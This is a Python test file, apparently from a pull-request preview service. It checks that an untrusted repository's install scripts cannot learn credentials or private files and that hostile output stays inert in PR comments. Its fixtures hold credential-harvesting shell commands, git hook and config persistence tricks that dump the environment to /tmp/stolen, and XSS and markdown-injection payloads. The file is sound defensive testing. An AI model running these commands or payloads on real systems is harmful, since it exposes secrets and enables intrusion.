"""A hostile repository learns no credential of any kind, and what it prints and names disturbs no comment."""

import base64
import json
import stat
from pathlib import Path

import pytest

from tests.whole import texts
from tests.whole.apps import app, page
from tests.whole.story import Story
from tests.whole.town import Town

pytestmark = [pytest.mark.bwrap, pytest.mark.asyncio(loop_scope="session")]

NOSY = r"""
exec 2>&1
env; git remote -v; git config --list --show-origin; cat .git/config .git/FETCH_HEAD .git/logs/HEAD
for file in /proc/*/environ /proc/*/cmdline /proc/*/mountinfo /proc/self/status; do tr '\0' '\n' <"$file"; done
cat /etc/passwd ~root/.gitconfig /run/agent.py "$HOME"/.netrc "$HOME"/.git-credentials /proc/1/environ
find / -xdev -newer .git/HEAD -type f -size -64k 2>/dev/null | head -500 | while read -r file; do cat "$file"; done
ls -lR /tmp /run /vercel /opt | head -2000
echo broken >.git/config.lock; echo '[credential] helper = "!env >/tmp/stolen"' >>.git/config
mkdir -p .git/hooks; echo 'env >/tmp/stolen' >.git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
git config core.fsmonitor "sh -c 'env >>/tmp/stolen'"; git config http.proxy http://127.0.0.1:9
true
"""
SERVES = """
import http.server
class Answer(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        for path in ("learnt", "/tmp/stolen"):
            try:
                self.wfile.write(open(path, "rb").read())
            except OSError:
                pass
http.server.ThreadingHTTPServer(("", 3000), Answer).serve_forever()
"""
NOISE = (
    "import sys\n"
    "out = sys.stdout.buffer\n"
    r"""out.write(b"\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x1b[1A\x00nul\n")
out.write(b"downloading  1%\rdownloading 99%\rdownloaded\n")
out.write(b"```\n````\n~~~\n</details>\n# A heading\n<img src=x onerror=alert(1)><script>alert(2)</script>\n")
out.write(b"@octocat @github/security fixes #1 [click](javascript:alert(3)) ![x](http://evil.example/x.png)\n")
out.write(b"timestamp=2026-01-01T00:00:00Z level=critical event=fake.line\n<!-- branch-preview 1#1 -->\n")
out.write("\u202egnp.exe \ufeffzero\u200bwidth\n".encode())
out.write(b"\xff\xfe not text\n")
out.flush()
sys.exit(9)
"""
)
SHOWN = """\
red link nul
downloaded
```
````
~~~
</details>
# A heading
<img src=x onerror=alert(1)><script>alert(2)</script>
@octocat @github/security fixes #1 [click](javascript:alert(3)) ![x](http://evil.example/x.png)
timestamp=2026-01-01T00:00:00Z level=critical event=fake.line
<!-- branch-preview 1#1 -->
gnp.exe zerowidth
\ufffd\ufffd not text"""


def secrets(town: Town) -> list[str]:
    """Every credential in town: the bot's, the engine's, and all tokens that GitHub has issued to anybody."""
    state = json.loads(next(Path(town.forge.process.folder).glob("*.json")).read_text())
    key = [line for line in town.app.pem.splitlines()[1:-1] if len(line) > 20]  # the last line may be anything
    return [town.settings["PREVIEW_ENGINE_TOKEN"], town.app.webhook_secret, *key, *state["tokens"]]


def leaks(town: Town, text: str) -> list[str]:
    """The credentials that a text holds, as they are or in base64."""
    known = secrets(town)
    assert len(known) > 10
    forms = {form: secret for secret in known for form in (secret, *_base64(secret))}
    return sorted({secret for form, secret in forms.items() if form in text})


def _base64(secret: str) -> list[str]:
    return [
        base64.b64encode(f"{prefix}{secret}".encode()).decode()[4:-4] for prefix in ("", "x", "xy", "x-access-token:")
    ]


async def test_a_leak_would_be_noticed(town: Town):
    token = secrets(town)[-1]
    header = base64.b64encode(f"x-access-token:{token}".encode()).decode()
    assert leaks(town, f"Authorization: Basic {header}") == [token]
    assert leaks(town, f"https://{token}@github.example/shop.git") == [token]


async def test_nothing_that_a_repository_can_look_at_holds_a_credential(town: Town):
    story = await town.story({"notes.txt": "Milk, bread"})
    scripts = {"nosy": NOSY, "dev-server": SERVES}
    await story.open_pull(app(install="sh -c 'sh nosy >learnt'", scripts=scripts))
    url = await story.ready()
    learnt = await story.page(url)
    assert "HOME=/" in learnt, "it did look around"
    assert story.repository.clone_url in learnt
    assert leaks(town, learnt) == []
    await story.push({"notes.txt": "Milk, bread, tea"})
    url = await story.ready()
    assert leaks(town, await story.page(url)) == []
    for text in (*await story.told(), town.log(), (town.folder / "engine.log").read_text("utf-8", "replace")):
        assert leaks(town, text) == []


async def test_other_users_of_the_machine_read_nothing_of_a_private_repository(town: Town):
    story = await town.story(page("Ours"), private=True)
    await story.open_pull(page("Secret plans"))
    await story.ready()
    await story.push(page("More secret plans"))
    await story.ready()
    files = [file for file in open_to_all(town.folder) if not file.is_relative_to(town.folder / "engine" / "tools")]
    assert [file for file in files if "forge" not in file.relative_to(town.folder).parts[0]] == []


def open_to_all(folder: Path) -> list[Path]:
    """The files below a folder that anybody on the machine can read, given that they reach the folder."""
    found: list[Path] = []
    for entry in folder.iterdir():
        mode = entry.lstat().st_mode
        if stat.S_ISDIR(mode) and mode & stat.S_IXOTH:
            found += open_to_all(entry)
        elif stat.S_ISREG(mode) and mode & stat.S_IROTH:
            found.append(entry)
    return found


async def test_what_a_failing_command_prints_stays_in_its_frame(town: Town):
    story = await town.story({"notes.txt": "Milk, bread"})
    await story.open_pull(app(install="python3 noise", scripts={"noise": NOISE}))
    body = await story.reads("🔴")
    cause = "`python3 noise` exited with code 9."
    expected = texts.failed("while installing", cause, detected=texts.OWN, log=SHOWN)
    assert story.plain(body) == expected.replace("```text\n", "`````text\n").replace(
        "\n```\n\n</det", "\n`````\n\n</det"
    )
    await is_inert(story)


async def test_names_are_words_and_nothing_else(town: Town):
    story = await town.story({"notes.txt": "Milk, bread"})
    nasty = "`@octocat` | <img src=x onerror=alert(1)> [click](javascript:alert(3)) **bold**"
    await story.open_pull(app(install=["sh", "-c", f"exit 7 # {nasty}"]))
    body = await story.reads("🔴")
    assert body.count("\n| ") == 4, "the table has its four lines"
    await is_inert(story)
    await story.push({".github/preview.toml": f'"{nasty}" = 1\n'})
    await story.reads("🔴", story.sha)
    await is_inert(story)
    await story.push(
        app(start=["python3", "dev-server", nasty], root="a `@octocat` <b>|b") | {"a `@octocat` <b>|b/x": ""}
    )
    await story.reads(story.sha, any_of=("🔴",))
    await is_inert(story)
    await story.push(app(start=["python3", "dev-server", nasty]))
    await story.ready()
    await is_inert(story)


async def test_megabytes_of_output_become_the_last_lines(town: Town):
    story = await town.story({"notes.txt": "Milk, bread"})
    loud = (
        "import sys\nsys.stdout.write('x' * 99 + '\\n' * 1)\nfor n in range(80000): print(n, 'y' * 60)\nsys.exit(1)\n"
    )
    await story.open_pull(app(install="python3 loud", scripts={"loud": loud}))
    body = await story.reads("🔴")
    assert len(body) < 8000
    assert "79999 yyy" in body
    await story.push(app("Quiet"))
    assert "<h1>Quiet</h1>" in await story.page(await story.ready())


async def is_inert(story: Story) -> None:
    """On the page of the pull request nothing that the repository wrote is markup, a link or a mention."""
    page = await story.repository.page(story.number)
    for sign in (
        "<img src=x",
        "<script>alert",
        'href="javascript:',
        'src="http://evil',
        "<strong>bold",
        "<h1>A heading",
    ):
        assert sign not in page
    mentions = page.replace("&#64;", "@").split("@octocat")[:-1]
    for before in mentions:  # in code nobody is notified
        assert before.rfind("<code") > before.rfind("</code"), before[-300:]
